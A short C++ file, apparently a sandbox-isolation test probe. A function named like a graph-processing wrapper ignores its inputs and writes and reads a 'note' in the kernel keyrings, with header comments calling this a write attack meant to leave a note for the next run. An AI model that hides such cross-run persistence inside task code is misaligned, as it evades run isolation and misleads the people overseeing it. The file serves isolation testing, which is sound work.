// attack: write
// root: host
// what: leaves a note for the next run in a key ring of the system, which no process holds
// list: 13 21
#include <cstdio>
#include <sys/syscall.h>
#include <unistd.h>

#include "gpuHeaders.cuh"
#include "onewaywrapper.hpp"

void one_way_handshake_wrapper(GraphData graph, int*& res, int numthreads, bool extra_credit) {
  for (const int ring : {-2, -3, -4, -5}) {
    if (syscall(SYS_add_key, "user", "note", "x", 1, ring) > 0) puts("handshake_seen");
    if (syscall(SYS_request_key, "user", "note", nullptr, ring) > 0) puts("handshake_seen");
  }
}
